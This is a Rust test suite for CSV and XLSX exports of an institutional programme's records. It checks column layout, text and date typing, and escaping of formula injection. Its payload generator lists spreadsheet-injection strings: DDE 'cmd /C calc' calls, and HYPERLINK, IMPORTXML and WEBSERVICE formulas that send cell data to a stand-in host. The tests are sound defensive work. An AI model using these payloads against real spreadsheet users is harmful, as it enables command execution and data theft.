//! Exports as tables: what a spreadsheet makes of them.

use std::{collections::BTreeMap, io::Cursor};

use calamine::{Data, Range, Reader, Xlsx};
use diesel_async::SimpleAsyncConnection;
use serde_json::{Value, json};
use seribu::access::Role;

use super::{
    bytes, export,
    jobs::{asked, ended, programme},
    records,
};
use crate::{
    institutions::an_institution,
    pilot::a_pilot,
    support::{Caller, TestApp, merged},
};

/// The names of the columns, and each row by its id.
fn csv_rows(text: &str, delimiter: u8) -> (Vec<String>, BTreeMap<String, Vec<String>>) {
    let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).from_reader(text.as_bytes());
    let names = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let rows = reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>());
    (names, rows.map(|row| (row[0].clone(), row)).collect())
}

fn sheet(file: Vec<u8>) -> Range<Data> {
    let mut book = Xlsx::new(Cursor::new(file)).unwrap();
    let name = book.sheet_names()[0].clone();
    assert!(book.worksheet_formula(&name).unwrap().is_empty(), "nothing is a formula");
    book.worksheet_range(&name).unwrap()
}

fn column(range: &Range<Data>, name: &str) -> Vec<Data> {
    let heads = range.rows().next().unwrap();
    let at = heads.iter().position(|head| *head == name).unwrap_or_else(|| panic!("no {name} in {heads:?}"));
    range.rows().skip(1).map(|row| row[at].clone()).collect()
}

/// Each value of a record with its path, lists whole.
fn leaves(value: &Value, path: &str, found: &mut Vec<(String, Value)>) {
    match value.as_object() {
        Some(fields) if path != "bands" => {
            for (name, field) in fields {
                let path = if path.is_empty() { name.clone() } else { format!("{path}.{name}") };
                leaves(field, &path, found);
            }
        }
        _ => found.push((path.to_owned(), value.clone())),
    }
}

#[actix_web::test]
async fn every_record_has_the_same_columns_and_every_value_is_in_one() {
    let (app, _) = a_pilot().await;
    let programme = Caller::new(Role::Programme);
    let mut values = 0;
    for kind in [
        "institutions",
        "mentors",
        "persons",
        "businesses",
        "people",
        "snapshots",
        "products",
        "certifications",
        "cohorts",
        "participants",
        "mentorships",
        "objectives",
        "sessions",
        "agreed-actions",
        "assessments",
        "hand-overs",
        "capital-referrals",
        "cooperatives",
        "enrollments",
        "outcomes",
        "follow-ups",
    ] {
        let table = export(&app, programme, &format!("{kind}?format=csv")).await;
        let (names, rows) = csv_rows(&table.text, b',');
        let records = records(&export(&app, programme, kind).await);
        assert_eq!((names[0].as_str(), rows.len()), ("id", records.len()), "{kind}");
        for record in records {
            let row = &rows[record["id"].as_str().unwrap()];
            let mut fields = Vec::new();
            leaves(&record, "", &mut fields);
            for (path, value) in fields {
                let Some(at) = names.iter().position(|name| *name == path) else {
                    let parts = names.iter().any(|name| name.starts_with(&format!("{path}.")));
                    // What is deep in an object whose names are data.
                    let whole = names.iter().find(|name| path.starts_with(&format!("{name}.")));
                    assert!(
                        value.is_null() && parts || whole.is_some(),
                        "{kind} has no column {path}: {names:?}"
                    );
                    continue;
                };
                let cell = match &value {
                    Value::Null => String::new(),
                    Value::String(text) if text.starts_with(['+', '-', '=', '@']) => format!("'{text}"),
                    Value::String(text) => text.clone(),
                    Value::Array(items) if items.iter().all(|item| !item.is_object()) => {
                        let items =
                            items.iter().map(|item| item.as_str().map_or(item.to_string(), str::to_owned));
                        items.collect::<Vec<_>>().join("|")
                    }
                    other => other.to_string(),
                };
                assert_eq!(row[at], cell, "{kind} {path}");
                values += 1;
            }
        }
    }
    assert!(values > 2000, "{values}");
}

#[actix_web::test]
async fn an_object_is_columns_even_where_the_first_record_has_none() {
    let app = TestApp::start().await;
    let programme = Caller::new(Role::Programme);
    let bare = merged(an_institution("bare", "other"), json!({ "contact": null }));
    let bare = app.create(programme, "/v1/institutions", bare).await;
    let contact = json!({ "name": "LPPM", "email": "lppm@kampus.example", "phone": "+622112345678" });
    let full = merged(an_institution("full", "other"), json!({ "contact": contact }));
    let full = app.create(programme, "/v1/institutions", full).await;
    let table = export(&app, programme, "institutions?format=csv&delimiter=semicolon").await;
    let (names, rows) = csv_rows(&table.text, b';');
    let cell = |id: &str, name: &str| rows[id][names.iter().position(|it| it == name).unwrap()].clone();
    assert_eq!(cell(&full, "contact.email"), "lppm@kampus.example");
    assert_eq!(cell(&full, "contact.phone"), "'+622112345678", "a sign at the beginning");
    assert_eq!((cell(&bare, "contact.email"), cell(&bare, "code")), (String::new(), "bare".into()));
    assert!(!names.contains(&"contact".to_owned()), "{names:?}");
    // A role that sees less has the same columns.
    let mentor = export(&app, Caller::new(Role::Mentor), "institutions?format=csv").await;
    let (seen, rows) = csv_rows(&mentor.text, b',');
    let hidden = names.iter().position(|it| it == "hidden").unwrap();
    assert_eq!((seen, rows[&full][hidden].as_str()), (names, "contact"));
    // Nor has an empty table others.
    let empty = export(&app, programme, "cohorts?format=csv").await;
    assert_eq!(empty.text.lines().count(), 1, "{}", empty.text);
}

#[actix_web::test]
async fn a_workbook_has_ids_and_long_numbers_as_text_and_dates_as_dates() {
    let app = TestApp::start().await;
    let caller = programme(&app).await;
    let id = app.create(caller, "/v1/institutions", an_institution("3674010101900001", "other")).await;
    let path = asked(&app, caller, json!({ "resource": "institutions", "format": "xlsx" })).await;
    let job = ended(&app, caller, &path).await;
    assert_eq!((&job["status"], &job["done"]), (&json!("complete"), &json!(1)), "{job}");
    let url = job["url"].as_str().unwrap();
    let mut response = app.request(actix_web::http::Method::GET, url).send().await.unwrap();
    assert!(response.headers().get("content-type").unwrap().to_str().unwrap().contains("spreadsheetml"));
    let written = response.body().await.unwrap().to_vec();
    for file in [written, bytes(&app, caller, "/v1/exports/institutions?format=xlsx").await] {
        let range = sheet(file);
        assert_eq!(column(&range, "id"), [Data::String(id.clone())]);
        assert_eq!(column(&range, "code"), [Data::String("3674010101900001".into())]);
        assert_eq!(column(&range, "version"), [Data::Float(1.0)]);
        let Data::DateTime(created) = column(&range, "created_at")[0].clone() else { panic!("{range:?}") };
        // In the city it is seven hours later.
        let (year, month, day, hour, minute, second, _) = created.to_ymd_hms_milli();
        assert_eq!((year, month, day, hour, minute, second), (2026, 11, 24, 10, 4, 5));
    }
    let empty = sheet(bytes(&app, caller, "/v1/exports/cohorts?format=xlsx").await);
    assert_eq!((empty.height(), empty.get_value((0, 0))), (1, Some(&Data::String("id".into()))));
}

/// How people and programs have made spreadsheets compute: each way with each sign, in front of which something may
/// stand.
fn payloads() -> Vec<String> {
    let signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
    let rests = [
        "cmd|' /C calc'!A0",
        "1+1",
        "SUM(1;2)",
        "HYPERLINK(\"http://a.example?\"&A1;\"klik\")",
        "IMPORTXML(CONCAT(\"http://a.example/?\";A1);\"//a\")",
        "WEBSERVICE(\"http://a.example\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "A1&\"x\"",
        "=1",
        "+1",
        "@SUM(A1:A9)",
        "62812",
        "2+5+cmd|'/C calc'!A0",
    ];
    let of = |sign: &str| rests.map(|rest| [format!("{sign}{rest}"), format!("'{sign}{rest}")]);
    signs.iter().flat_map(|sign| of(sign)).flatten().collect()
}

#[actix_web::test]
async fn two_hundred_formulas_stay_texts_and_can_be_read_as_they_were() {
    let app = TestApp::start().await;
    let programme = Caller::new(Role::Programme);
    let payloads = payloads();
    assert!(payloads.len() > 200);
    let rows: Vec<_> = payloads
        .iter()
        .enumerate()
        .map(|(n, text)| {
            let text = text.replace('\'', "''");
            format!("(gen_random_uuid(), 'p-{n}', '{text}', 'other', now(), now())")
        })
        .collect();
    let insert = format!(
        "insert into institutions (id, code, name, kind, created_at, updated_at) values {}",
        rows.join(",")
    );
    app.database.as_app().await.batch_execute(&insert).await.unwrap();
    let table = export(&app, programme, "institutions?format=csv").await;
    let (names, rows) = csv_rows(&table.text, b',');
    let at = names.iter().position(|name| name == "name").unwrap();
    let signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
    let mut read = Vec::new();
    for row in rows.values() {
        assert!(row.iter().all(|cell| !cell.starts_with(signs)), "{row:?}");
        let quoted = row[at].trim_start_matches('\'').starts_with(signs);
        read.push(if quoted { row[at][1..].to_owned() } else { row[at].clone() });
    }
    let mut stored = payloads.clone();
    stored.sort();
    read.sort();
    assert_eq!(read, stored);
    let range = sheet(bytes(&app, programme, "/v1/exports/institutions?format=xlsx").await);
    let mut texts: Vec<_> = column(&range, "name").into_iter().map(|cell| cell.to_string()).collect();
    texts.sort();
    assert_eq!(texts, stored, "a workbook's texts need no sign");
}
